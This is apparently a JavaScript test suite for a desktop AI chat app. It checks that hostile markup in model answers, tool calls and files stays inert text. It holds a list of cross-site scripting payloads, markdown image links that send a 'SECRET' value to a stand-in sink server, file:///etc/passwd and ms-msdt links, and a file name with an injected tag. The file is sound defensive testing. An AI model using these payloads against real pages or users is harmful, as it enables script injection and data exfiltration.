// Text from a model, a file or a command is only ever text: whatever it says, no script runs and no request leaves the window.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { test } from "node:test";

import { CARD, answered, begin, decide, idle, newConversation, send } from "./chat.js";
import { streamed } from "./model.js";

/** What would run a script or make a request if it were more than text. `SINK` stands for the address of a server that counts. */
const PAYLOADS = [
  `<img src=x onerror="window.pwned='img'">`,
  `<script>window.pwned='script'</script>`,
  `<svg onload="window.pwned='svg'"><image href="SINK/svg"/></svg>`,
  `<iframe src="SINK/frame" srcdoc="<script>parent.pwned='frame'</script>"></iframe>`,
  `<object data="SINK/object"></object><embed src="SINK/embed"><video src="SINK/video" autoplay></video>`,
  `<link rel=stylesheet href="SINK/style.css"><style>@import "SINK/import.css"; body { background: url(SINK/css) }</style>`,
  `<base href="SINK/"><meta http-equiv=refresh content="0;url=SINK/refresh"><form action="SINK/form"><button>go</button></form>`,
  `![a picture](SINK/picture.png?d=SECRET) and ![](<SINK/empty.png>)`,
  `![reference][r]\n\n[r]: SINK/reference.png "title"`,
  `[click](javascript:window.pwned='link') [file](file:///etc/passwd) [smb](smb://sink/share) [ms](ms-msdt:/id) [code](vscode://file/x) [data](data:text/html,<script>1</script>)`,
  "```mermaid\ngraph TD; A[\"<img src=x onerror=window.pwned='mermaid'>\"] --> B; click A call window.pwned()\n```",
  '```html\n<img src="SINK/code.png" onerror="window.pwned=1">\n```',
  "```svg\n<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'/>\n```",
  "$$\\href{javascript:window.pwned='math'}{x}$$ `<b onmouseover=window.pwned=1>`",
  `| <img src=x onerror=window.pwned=1> | SINK/table |\n|---|---|\n| <script>window.pwned=1</script> | ![](SINK/cell.png) |`,
];

/** A server of the kind that a leak would reach, and what reached it. */
async function openSink(t) {
  const seen = [];
  const server = createServer((request, response) => {
    seen.push(request.url);
    response.end();
  });
  let connections = 0;
  server.on("connection", () => (connections += 1));
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  t.after(() => new Promise((done) => server.close(done)));
  return { address: `http://127.0.0.1:${server.address().port}`, seen, connections: () => connections };
}

/** Begins to note everything that would be a breach, in the page itself. */
const watchPage = (app) =>
  app.execute(() => {
    window.breaches = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => window.breaches.push(`${effectiveDirective} ${blockedURI}`));
  });

/** What ran or was tried in the page, and which elements are there that text must never become. */
const breaches = (app) =>
  app.execute(() => ({
    pwned: window.pwned ?? null,
    refused: window.breaches,
    elements: [...document.querySelectorAll("#app script, iframe, object, embed, video, audio, link[href^='http'], #app style, base, meta[http-equiv], form[action], #app img[src], image")].map((element) => element.outerHTML.slice(0, 120)),
    handlers: [...document.querySelectorAll("#app *")].flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith("on"))),
    links: [...document.querySelectorAll("a[href]")].map((link) => link.getAttribute("href")).filter((href) => !/^(https?:|mailto:)/.test(href)),
    resources: performance.getEntriesByType("resource").map(({ name }) => name).filter((name) => !/^(tauri|ipc):|^http:\/\/(tauri|ipc)\.localhost/.test(name)),
  }));

const CLEAN = { pwned: null, refused: [], elements: [], handlers: [], links: [], resources: [] };

test("p82_p84_p86_markup in answers, reasoning, messages, output and cards stays text", async (t) => {
  const sink = await openSink(t);
  const payloads = PAYLOADS.map((payload) => payload.replaceAll("SINK", sink.address));
  const all = payloads.join("\n\n");
  const { app, model } = await begin(t, { files: { "evil.txt": `${all}\n` } });
  await watchPage(app);
  await newConversation(app);

  // An answer, whole and cut at every place where a tag might be put together; and as reasoning.
  const halves = payloads.flatMap((payload) => [payload.slice(0, payload.length / 2), payload.slice(payload.length / 2), "\n\n"]);
  await model.play({
    replies: [
      { say: `${all}\n\nfirst end`, think: all },
      streamed([...halves, "second end"]),
      streamed([...payloads[0], "\n\n", ...payloads[1], "\n\nthird end"]),
      {
        calls: [
          { name: "read_file", arguments: { path: "evil.txt" } },
          { name: "run_command", arguments: { command: `cat evil.txt; echo ${JSON.stringify(payloads[0])}` } },
          { name: "write_file", arguments: { path: "<img src=x onerror=window.pwned='name'>.md", content: payloads.slice(0, 4).join("\n") } },
        ],
      },
      { say: "fourth end" },
    ],
  });
  for (const end of ["first", "second", "third"]) {
    await send(app, `${end} ${payloads[0]}`);
    await app.waitFor(() => app.execute((word) => document.querySelector("#app").innerText.includes(word), `${end} end`), { what: `${end} answer` });
    await idle(app);
    assert.deepEqual(await breaches(app), CLEAN, end);
  }
  assert.match(await app.execute(() => document.querySelector("#app").innerText), /<img src=x onerror=/, "it is shown as text");

  await send(app, "now the tools");
  await app.find(CARD, { text: "cat evil.txt" });
  assert.deepEqual(await breaches(app), CLEAN, "cards");
  await app.screenshot("hostile-cards");
  await decide(app, "Approve", "cat evil.txt");
  await app.find(CARD, { text: ".md" });
  assert.deepEqual(await breaches(app), CLEAN, "diff");
  await decide(app, "Reject", ".md");
  await app.type(`${CARD} textarea`, payloads[0]);
  await app.press("Enter");
  await app.waitFor(() => app.execute(() => document.querySelector("#app").innerText.includes("fourth end")), { what: "the last answer" });
  for (const row of ["Read", "Ran"]) await app.click("button[aria-expanded=false]", { text: row });
  await app.waitFor(() => app.execute(() => document.querySelectorAll("button[aria-expanded=true]").length), { until: (count) => count >= 2, what: "rows are open" });
  assert.deepEqual(await breaches(app), CLEAN, "output");
  assert.deepEqual({ seen: sink.seen, connections: sink.connections() }, { seen: [], connections: 0 });
});

test("p85_only web and mail addresses open, and only after they are shown", async (t) => {
  const { app, model } = await begin(t);
  await watchPage(app);
  await newConversation(app);
  await model.play({ replies: [{ say: `${PAYLOADS[9]}\n\n[good](https://example.org/päth?q=1) [look](https://еxample.org/)` }] });
  await send(app, "links");
  await answered(app, "good");
  await idle(app);
  const links = await app.execute(() => [...document.querySelectorAll('article [role="link"], article a')].map((link) => link.innerText));
  assert.deepEqual(links, ["good", "look"], "nothing else is a link");
  const shown = async (link) => {
    await app.click('[role="link"]', { text: link });
    const words = await app.text('[role="dialog"], [role="alertdialog"]');
    await app.press("Escape");
    await app.waitFor(() => app.execute(() => document.querySelectorAll('[role="dialog"], [role="alertdialog"]').length === 0), { what: "the dialog is closed" });
    return words;
  };
  assert.match(await shown("good"), /https:\/\/example\.org\/p%C3%A4th\?q=1/, "the address is shown first");
  assert.match(await shown("look"), /xn--/, "a look-alike shows its true name");
  for (const address of ["file:///etc/passwd", "smb://sink/share", "javascript:alert(1)", "ms-msdt:/id", "vscode://file/x", "data:text/html,x"]) {
    await assert.rejects(app.invoke("plugin:opener|open_url", { url: address }), /not allowed|Not allowed|denied/i, address);
  }
});

test("p87_a page in a frame doesn't load and reaches no command", async (t) => {
  const sink = await openSink(t);
  const { app } = await begin(t);
  const result = await app.execute(async (address) => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violations.push(effectiveDirective));
    const frame = document.createElement("iframe");
    frame.src = `${address}/frame.html`;
    document.body.append(frame);
    const inner = document.createElement("iframe");
    inner.srcdoc = "<script>parent.framed = true; window.__TAURI_INTERNALS__?.invoke('ping')</script>";
    document.body.append(inner);
    await new Promise((done) => setTimeout(done, 300));
    const reachable = [frame, inner].map((each) => {
      try {
        return "__TAURI_INTERNALS__" in each.contentWindow;
      } catch {
        return "foreign";
      }
    });
    const answer = await Promise.resolve(inner.contentWindow.__TAURI_INTERNALS__?.invoke("overview", { params: {} })).catch(() => "refused");
    frame.remove();
    inner.remove();
    return { violations, framed: window.framed ?? null, reachable, answer: answer ? typeof answer === "string" ? answer : "answered" : null };
  }, sink.address);
  assert.ok(result.violations.some((directive) => /frame-src|default-src|child-src/.test(directive)), JSON.stringify(result));
  assert.equal(result.framed, null, "no script of a frame runs");
  assert.notEqual(result.answer, "answered", "no command answers a frame");
  assert.deepEqual(sink.seen, []);
});
